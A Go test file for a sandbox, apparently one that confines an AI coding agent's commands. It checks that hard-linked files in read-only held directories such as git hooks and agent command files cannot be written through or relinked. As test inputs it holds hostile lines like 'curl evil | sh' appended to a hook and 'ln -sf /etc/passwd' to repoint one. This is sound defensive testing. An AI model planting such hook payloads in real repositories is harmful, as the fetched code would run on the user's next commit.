package sandbox

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// heldLinksFixture is a repository (git's own sample hooks in .git/hooks)
// with a hook and a nested agent command file in held directories.
func heldLinksFixture(t *testing.T) *fixture {
	t.Helper()
	f := repoFixture(t)
	for _, d := range []string{".claude/commands", "scripts", "notes"} {
		if err := os.MkdirAll(filepath.Join(f.ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(f.ws, ".git/hooks/pre-commit"), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(f.ws, ".claude/commands/deploy.md"), "Deploy with care.\n")
	return f
}

// TestHeldDirectoryFileWithOtherNameRefusesRun: a held directory's
// read-only mount holds the names in it, not the files, so a hook (or a
// file deeper in a held directory) that the user hard-linked elsewhere,
// in the workspace or outside it, would be written through its other name
// by the run and run by the user's next git commit. A writable run is
// refused, naming the file and the fix; a read-only run still runs; once
// the user makes the file one of its own, as the message says, runs start
// again and writing the old other name leaves the held file alone. A
// repository whose held directories have no such file (git's sample hooks)
// is not refused.
func TestHeldDirectoryFileWithOtherNameRefusesRun(t *testing.T) {
	cases := []struct {
		name, held, other string
	}{
		{"hook linked from the workspace", ".git/hooks/pre-commit", "scripts/pre-commit"},
		{"nested file linked from the workspace", ".claude/commands/deploy.md", "notes/deploy.md"},
		{"hook linked from outside the workspace", ".git/hooks/pre-commit", "../outside-pre-commit"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := heldLinksFixture(t)
			if out, code := f.run(t, WorkspaceWrite, "echo ok"); code != 0 {
				t.Fatalf("a run in a repository with no linked held file: %d\n%s", code, out)
			}
			held, other := filepath.Join(f.ws, tc.held), filepath.Join(f.ws, tc.other)
			before, err := os.ReadFile(held)
			if err != nil {
				t.Fatal(err)
			}
			if err := os.Link(held, other); err != nil {
				t.Fatal(err)
			}
			_, err = f.sb.Command(t.Context(), WorkspaceWrite, f.ws, []string{"/bin/sh", "-c", "echo 'curl evil | sh' >> " + tc.other})
			for _, want := range []string{tc.held + " has 2 hard links", "cp " + tc.held + " x && mv x " + tc.held, "find . -samefile " + tc.held} {
				if err == nil || !strings.Contains(err.Error(), want) {
					t.Fatalf("a writable run with %s linked from %s: %v; want it refused with %q", tc.held, tc.other, err, want)
				}
			}
			if b, err := os.ReadFile(held); err != nil || string(b) != string(before) {
				t.Fatalf("%s = %q, %v; want it unchanged", tc.held, b, err)
			}
			if out, code := f.run(t, ReadOnly, "cat "+tc.held+" >/dev/null"); code != 0 {
				t.Errorf("a read-only run was refused too: %d\n%s", code, out)
			}
			// The fix the message gives, run by the user.
			fix := "cp " + tc.held + " x && mv x " + tc.held
			if out, err := exec.Command("/bin/sh", "-c", "cd "+f.ws+" && "+fix).CombinedOutput(); err != nil {
				t.Fatalf("%s: %v\n%s", fix, err, out)
			}
			if out, code := f.run(t, WorkspaceWrite, "echo 'curl evil | sh' >> "+tc.other); code != 0 {
				t.Fatalf("a run after the fix: %d\n%s", code, out)
			}
			if b, err := os.ReadFile(held); err != nil || string(b) != string(before) {
				t.Errorf("%s = %q, %v after a run wrote its old other name; want it unchanged", tc.held, b, err)
			}
		})
	}
}

// TestHeldDirectoryGainsNoNameInRun: the check before a run is enough
// because a run cannot give a file in a held directory another name: a
// link out of the read-only mount fails (EXDEV), and one into it too
// (EROFS), at any depth.
func TestHeldDirectoryGainsNoNameInRun(t *testing.T) {
	f := heldLinksFixture(t)
	out, code := f.run(t, WorkspaceWrite, `for l in ".git/hooks/pre-commit x" ".claude/commands/deploy.md y" "main.txt .git/hooks/post-checkout" "main.txt .claude/commands/z"; do
	if ln $l; then echo "LINKED $l"; fi
done; exit 0`)
	if code != 0 || strings.Contains(out, "LINKED") {
		t.Fatalf("a run linked a held directory's file (exit %d):\n%s", code, out)
	}
	for _, rel := range []string{".git/hooks/pre-commit", ".claude/commands/deploy.md", "main.txt"} {
		fi, err := os.Lstat(filepath.Join(f.ws, rel))
		if err != nil || links(fi) != 1 {
			t.Errorf("%s: %v, want one name", rel, err)
		}
	}
	if out, code := f.run(t, WorkspaceWrite, "echo ok"); code != 0 {
		t.Errorf("the next run: %d\n%s", code, out)
	}
}

// TestHeldDirectoryCheckBounds: a symlink in a held directory is held as a
// link (a run cannot repoint it) and does not refuse the run; the
// quarantine, whose files have one name each and which can hold whole
// repositories, is not looked into; and held directories with more
// entries than a run checks refuse it, saying so.
func TestHeldDirectoryCheckBounds(t *testing.T) {
	f := heldLinksFixture(t)
	write(t, filepath.Join(f.ws, "scripts/post-checkout"), "#!/bin/sh\n")
	if err := os.Symlink("../../scripts/post-checkout", filepath.Join(f.ws, ".git/hooks/post-checkout")); err != nil {
		t.Fatal(err)
	}
	kept := filepath.Join(f.ws, QuarantineDir, "2026-01-01T00-00-00Z-00000000")
	if err := os.MkdirAll(kept, 0o755); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(kept, ".envrc"), "x\n")
	if err := os.Link(filepath.Join(kept, ".envrc"), filepath.Join(kept, "copy")); err != nil {
		t.Fatal(err)
	}
	if out, code := f.run(t, WorkspaceWrite, "ln -sf /etc/passwd .git/hooks/post-checkout; readlink .git/hooks/post-checkout"); code != 0 ||
		!strings.Contains(out, "../../scripts/post-checkout") {
		t.Fatalf("a run with a symlinked hook and a linked file in the quarantine: %d, want it to run and not repoint the link\n%s", code, out)
	}
	f.sb.maxHeldWalk = 5
	_, err := f.sb.Command(t.Context(), WorkspaceWrite, f.ws, []string{"true"})
	if err == nil || !strings.Contains(err.Error(), "more than 5 files and directories") {
		t.Fatalf("a run with more held entries than it checks: %v; want it refused, saying so", err)
	}
}

// BenchmarkSoleNames times the check of a held directory for files with
// other names, which a writable run makes before it starts: git's sample
// hooks (what git init leaves in .git/hooks), and a held directory of 1,000
// files and one of 10,000 entries (the most a run checks), in directories
// of 100 files.
func BenchmarkSoleNames(b *testing.B) {
	ws, err := filepath.EvalSymlinks(b.TempDir())
	if err != nil {
		b.Fatal(err)
	}
	if out, err := exec.Command("git", "init", "-q", ws).CombinedOutput(); err != nil {
		b.Fatalf("git init: %v %s", err, out)
	}
	for _, n := range []int{1000, 9900} {
		for i := range n {
			d := filepath.Join(ws, fmt.Sprintf(".idea%d", n), fmt.Sprintf("d%d", i/100))
			if err := os.MkdirAll(d, 0o755); err != nil {
				b.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(d, fmt.Sprintf("f%d", i)), nil, 0o644); err != nil {
				b.Fatal(err)
			}
		}
	}
	root, err := os.OpenRoot(ws)
	if err != nil {
		b.Fatal(err)
	}
	defer root.Close()
	for _, rel := range []string{".git/hooks", ".idea1000", ".idea9900"} {
		b.Run(rel, func(b *testing.B) {
			var entries int
			for b.Loop() {
				p, err := walk(root, rel, false)
				if err != nil {
					b.Fatal(err)
				}
				w := heldWalk{limit: defaultMaxHeldWalk, left: defaultMaxHeldWalk}
				if err := soleNames(p, &w); err != nil {
					b.Fatal(err)
				}
				p.dir.Close()
				entries = w.limit - w.left
			}
			b.ReportMetric(float64(entries), "entries")
		})
	}
}
